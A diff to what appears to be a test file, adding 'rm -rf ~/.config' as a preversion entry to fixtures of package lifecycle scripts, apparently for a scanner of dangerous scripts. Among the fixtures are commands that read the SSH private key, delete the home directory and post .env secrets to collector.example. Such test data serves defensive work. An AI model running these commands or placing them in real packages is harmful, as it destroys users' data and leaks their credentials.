@@ -48,6 +48,7 @@ const SCRIPT_FIXTURES: Record<string, string> = {
       prestart: 'cat ~/.ssh/id_rsa',
       start: 'node dist/index.js',
       wipe: 'rm -rf $HOME',
+      preversion: 'rm -rf ~/.config',
       leak: 'curl -d @.env https://collector.example',
     },
   }),
